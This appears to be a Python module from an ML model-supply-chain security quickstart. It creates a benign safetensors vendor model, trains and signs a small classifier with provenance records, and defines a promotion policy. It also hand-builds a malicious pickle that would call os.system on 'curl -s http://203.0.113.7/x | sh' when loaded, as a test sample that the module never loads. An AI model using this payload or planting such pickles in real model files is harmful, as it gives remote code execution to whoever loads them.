"""Steps 3 and 4: third-party models at the vault's door, then our own model.

Third-party models are made in code: a benign safetensors file and a pickle
whose ``__reduce__`` would run a shell command when loaded (the bytes are built
by hand; nothing here ever loads them). Our model is a multinomial logistic
regression trained on the admitted digits inside a recorded ``training_run``
(signed SLSA provenance), then signed in the OpenSSF Model Signing format.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from donjon.core.bus import EventBus
from donjon.quickstart.data_step import Ingested
from donjon.quickstart.weights import LinearModel, save_safetensors

BUILDER = "https://donjon.dev/quickstart/trainer"
PAYLOAD = b"curl -s http://203.0.113.7/x | sh"  # never run: it only sits in the bytes


def benign_third_party(path: Path) -> Path:
    """A small vendor model in safetensors: weights only, no code."""
    rng = np.random.default_rng(11)
    save_safetensors(LinearModel(rng.normal(size=(2, 16)), rng.normal(size=2)), path)
    return path


def malicious_third_party(path: Path) -> Path:
    """A pickle that calls ``os.system`` when unpickled (protocol 2, hand-assembled)."""
    body = (
        b"\x80\x02"  # PROTO 2
        + b"cos\nsystem\n"  # GLOBAL os.system
        + b"X" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD  # BINUNICODE the command
        + b"\x85"  # TUPLE1
        + b"R"  # REDUCE: os.system(command)
        + b"."  # STOP
    )  # fmt: skip
    path.write_bytes(body)
    return path


@dataclass(frozen=True)
class Trained:
    model: LinearModel
    weights: Path
    provenance: Path
    signature: Path
    accuracy: float


def train_and_sign(ingested: Ingested, folder: Path, keys: Path, bus: EventBus) -> Trained:
    """Train inside a recorded training run, then sign the weights file."""
    from sklearn.linear_model import LogisticRegression

    from donjon.provenance import LocalKeyProvider, ProviderSigner, sign_model
    from donjon.provenance.attest import training_run

    provider = LocalKeyProvider(keys)
    for key_id in ("builder", "release"):
        if key_id not in provider.key_ids():
            provider.generate(key_id)
    folder.mkdir(parents=True, exist_ok=True)
    weights = folder / "digits-clf.safetensors"
    provenance = folder / "digits-clf.provenance.json"
    with training_run(
        "digits-clf",
        BUILDER,
        signer=ProviderSigner(provider, "builder"),
        output=provenance,
        workdir=folder,
        bus=bus,
    ) as run:
        run.input_dataset(ingested.clean, name="digits", manifest=ingested.manifest)
        params: dict[str, Any] = {"model": "LogisticRegression", "max_iter": 2000, "C": 1.0}
        for name, value in params.items():
            run.param(name, value)
        clf = LogisticRegression(max_iter=2000, C=1.0)
        clf.fit(ingested.X / 16.0, ingested.y)
        model = LinearModel(
            np.asarray(clf.coef_, dtype=np.float64) / 16.0,
            np.asarray(clf.intercept_, dtype=np.float64),
        )
        accuracy = float((model.predict(ingested.X_holdout) == ingested.y_holdout).mean())
        run.metric("accuracy", accuracy)
        save_safetensors(model, weights)
        run.output_model(weights, name="digits-clf")
    signed = sign_model(weights, ProviderSigner(provider, "release"), folder / "digits-clf.sig")
    return Trained(model, weights, provenance, signed.signature, accuracy)


def promotion_policy(keys: Path, min_accuracy: float) -> Any:
    """The promotion policy: release key signature, builder provenance, a manifest, accuracy."""
    from donjon.provenance.policy import Policy, PolicyGate

    policy = Policy.from_dict(
        {
            "signature": {"public_keys": ["release.pub.pem"]},
            "provenance": {
                "required": True,
                "builder_keys": ["builder.pub.pem"],
                "builders": [BUILDER],
                "datasets_need_manifest": True,
            },
            "metrics": {"accuracy": {"min": min_accuracy}},
        },
        keys,
    )
    return PolicyGate(policy)
